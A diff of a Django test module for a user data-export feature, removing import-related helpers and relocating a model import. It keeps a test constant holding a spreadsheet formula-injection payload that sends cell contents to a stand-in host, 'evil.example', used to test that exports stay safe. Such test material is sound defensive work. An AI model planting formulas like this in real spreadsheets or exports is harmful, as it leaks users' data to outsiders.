@@ -6,7 +6,6 @@ from datetime import UTC, datetime, time, timedelta
 from typing import Any
 
 import orjson
-from django.core.files.uploadedfile import SimpleUploadedFile
 from django.utils import timezone
 
 from accounts.billing.models import Payment, Subscription
@@ -14,15 +13,15 @@ from accounts.billing.services import subscription_set
 from accounts.consent.models import ConsentType, SharingGrant
 from accounts.consent.services import consent_set
 from accounts.emergency.models import EmergencyAccess
-from accounts.export.running import export_run, import_run
+from accounts.export.running import export_run
 from accounts.identity.models import User
-from accounts.notifications.models import NotificationKind, PushDevice, Reminder
+from accounts.notifications.models import NotificationKind, PushDevice
 from accounts.notifications.services import notification_create
 from accounts.profile.models import PrivacySettings, UserPreferences, UserProfile
+from accounts.reminders.models import Reminder
 from accounts.social.models import SocialAccount
 
 EXPORTS = "/api/v1/users/me/data-exports"
-IMPORTS = "/api/v1/users/me/data-imports"
 # The worst that a cell can hold, and what PostgreSQL, ZIP, XML and JSON find hard.
 FORMULA = '=HYPERLINK("http://evil.example?"&A1)'
 ODD_TEXT = "zwölf 🐢 \u2028 \x0b tab\there \"quotes\" 'single' <b>&amp;\r\nnew line"
@@ -90,15 +89,6 @@ def archive_of(client: Any, form: str = "all") -> tuple[bytes, zipfile.ZipFile]:
 
 def rows_in(archive: zipfile.ZipFile, name: str) -> list[dict[str, Any]]:
     return orjson.loads(archive.read(f"json/{name}.json"))
-
-
-def import_made(client: Any, data: bytes, source: str = "evenkeel", **fields: Any) -> Any:
-    """Uploads by HTTP, works as a worker would, and gives the detail."""
-    upload = SimpleUploadedFile("file.bin", data)
-    asked = client.post(IMPORTS, {"source": source, "file": upload, **fields}, format="multipart")
-    assert asked.status_code == 202, asked.content
-    assert import_run(import_id=None, clock=timezone.now)
-    return client.get(f"{IMPORTS}/{asked.json()['id']}").json()
 
 
 def at(text: str) -> datetime:
